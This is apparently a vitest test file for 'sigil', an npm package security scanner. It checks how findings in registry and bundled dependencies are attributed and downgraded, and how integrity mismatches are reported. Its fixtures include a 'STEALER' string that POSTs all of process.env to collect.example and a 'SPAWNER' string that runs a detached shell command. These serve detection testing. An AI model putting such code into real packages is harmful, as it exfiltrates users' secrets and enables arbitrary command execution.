import { execFile } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bundledDependencyOf } from "@/scanner/dependencies/bundled-dependency";
import { dependencyCodeFindings } from "@/scanner/dependencies/dependency-code-findings";
import type { ScanReport } from "@/scanner/report/scan-report";
import type { ScanFinding } from "@/scanner/rules/rule";
import { scanTarget } from "@/scanner/scan-target";
import { digestTarball } from "@/scanner/target/tarball-digests";
import { packTarball, startFakeRegistry } from "../support/fake-npm-registry";

const STEALER = "const body = JSON.stringify(process.env);\nrequire('https').request('https://collect.example/e', { method: 'POST' }).end(body);\n";
const SPAWNER = "require('child_process').spawn('sh', ['-c', process.argv[2]], { detached: true, stdio: 'ignore' });\n";

describe("bundledDependencyOf", () => {
  it.each([
    ["index.js", undefined],
    ["node_modules/left-pad/index.js", "left-pad"],
    ["node_modules/@scope/pkg/lib/a.js", "@scope/pkg"],
    ["node_modules/outer/node_modules/inner/x.js", "inner"],
    ["lib/node_modules_helper.js", undefined],
  ])("%s → %s", (file, expected) => expect(bundledDependencyOf(file)).toBe(expected));
});

describe("dependencyCodeFindings", () => {
  const finding = (severity: ScanFinding["severity"], line: number): ScanFinding => ({ rule: "exec", category: "exec", severity, file: "lib/run.js", line, message: "Spawns a process", evidence: "spawn()" });

  it("reports each rule once per dependency, marked as via it, at most low, keeping the severity it would have had", () => {
    const [only, ...rest] = dependencyCodeFindings("runner@1.0.0", [finding("medium", 3), finding("high", 9), finding("low", 12)], "node_modules/runner/");
    expect(rest).toEqual([]);
    expect(only).toMatchObject({
      rule: "exec",
      severity: "low",
      file: "node_modules/runner/lib/run.js",
      line: 3,
      viaDependency: "runner@1.0.0",
      message: "Via dependency runner@1.0.0: Spawns a process (3 places; high in the package's own code)",
    });
  });

  it("leaves info findings at info", () => {
    expect(dependencyCodeFindings("x@1.0.0", [finding("info", 1)])[0]).toMatchObject({ severity: "info", message: "Via dependency x@1.0.0: Spawns a process" });
  });
});

describe("scanning a package's dependency code", () => {
  let registry: Awaited<ReturnType<typeof startFakeRegistry>>;
  const dirs: string[] = [];
  const folder = (files: Record<string, string>) => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "sigil-deps-pkg-"));
    dirs.push(dir);
    for (const [name, content] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
      fs.writeFileSync(path.join(dir, name), content);
    }
    return dir;
  };

  beforeAll(async () => {
    const stealer = await packTarball({ "package.json": JSON.stringify({ name: "env-helper", version: "1.0.0", main: "index.js" }), "index.js": STEALER });
    const missing = await packTarball({ "package.json": JSON.stringify({ name: "tampered", version: "1.0.0" }), "index.js": "1;\n" });
    registry = await startFakeRegistry(
      [
        { name: "env-helper", version: "1.0.0", tarball: stealer, integrity: digestTarball(stealer).integrity },
        // Served bytes that do not match what the packument vouches for.
        { name: "tampered", version: "1.0.0", tarball: missing, integrity: digestTarball(stealer).integrity },
      ],
      { auditStatus: 405 },
    );
  });
  afterAll(async () => {
    await registry.close();
    for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
  });

  it("reports what a registry dependency's code does as via it, without failing the package, and lists what it could not analyse", async () => {
    const dir = folder({ "package.json": JSON.stringify({ name: "uses-helpers", version: "1.0.0", dependencies: { "env-helper": "1.0.0", tampered: "1.0.0" } }), "index.js": "module.exports = 1;\n" });
    const report = await scanTarget(dir, { registry: registry.url });
    const via = report.findings.filter((f) => f.viaDependency === "env-helper@1.0.0");
    const byCategory = Object.fromEntries(via.map((f) => [f.category, [f.severity, f.file]]));
    // Serialising the whole environment is high in a package's own code; via a dependency, low.
    expect(byCategory).toEqual({ env: ["low", "node_modules/env-helper/index.js"], network: ["info", "node_modules/env-helper/index.js"] });
    expect(report.verdict).not.toBe("fail");
    expect(report.permissions.detected).toEqual({});
    expect(report.dependencies.code).toMatchObject({ analysed: 1, notAnalysed: [{ name: "tampered", version: "1.0.0", reason: expect.stringMatching(/integrity/) }] });
    expect(report.findings.find((f) => f.rule === "not-analysed" && f.file === "package.json")?.message).toMatch(/tampered@1\.0\.0/);
  });

  it("fetches each dependency's code from where the audit found it, without asking for its packument again", async () => {
    const dir = folder({ "package.json": JSON.stringify({ name: "uses-helper", version: "1.0.0", dependencies: { "env-helper": "1.0.0" } }) });
    const before = registry.packumentRequests.length;
    const report = await scanTarget(dir, { registry: registry.url });
    expect(report.dependencies.code).toMatchObject({ analysed: 1 });
    expect(registry.packumentRequests.slice(before)).toEqual(["env-helper"]);
  });

  it("leaves dependency code out with sigil scan --skip-dependency-code", async () => {
    const dir = folder({ "package.json": JSON.stringify({ name: "uses-one", version: "1.0.0", dependencies: { "env-helper": "1.0.0" } }) });
    // Asynchronously: the registry it asks runs in this process.
    const sigil = async (...extra: string[]) => {
      const env = { ...process.env, SIGIL_NPM_REGISTRY: registry.url, SIGIL_AUDIT_REGISTRY: registry.url };
      const { stdout } = await promisify(execFile)(process.execPath, [path.resolve("bin/sigil.js"), "scan", dir, "--json", ...extra], { env });
      return JSON.parse(stdout) as ScanReport;
    };
    expect((await sigil()).dependencies.code).toMatchObject({ analysed: 1 });
    const skipped = await sigil("--skip-dependency-code");
    expect(skipped.dependencies.code).toBeUndefined();
    expect(skipped.findings.filter((f) => f.viaDependency)).toEqual([]);
  });

  it("attributes bundled dependencies (node_modules/ in the tarball) to them, and keeps their capabilities out of the package's own", async () => {
    const tarball = await packTarball({
      "package.json": JSON.stringify({ name: "bundles-things", version: "1.0.0", bundleDependencies: ["spawner"] }),
      "index.js": "module.exports = require('spawner');\n",
      "node_modules/spawner/package.json": JSON.stringify({ name: "spawner", version: "2.0.0" }),
      "node_modules/spawner/index.js": SPAWNER,
    });
    const file = path.join(folder({}), "bundles-things-1.0.0.tgz");
    fs.writeFileSync(file, tarball);
    const report = await scanTarget(file, { registry: registry.url, dependencyCode: false });
    const via = report.findings.filter((f) => f.viaDependency === "spawner (bundled)");
    expect(via.map((f) => f.category)).toContain("exec");
    expect(via.every((f) => f.severity === "low")).toBe(true);
    expect(report.permissions.detected.exec).toBeUndefined();
    expect(report.verdict).not.toBe("fail");
  });
});
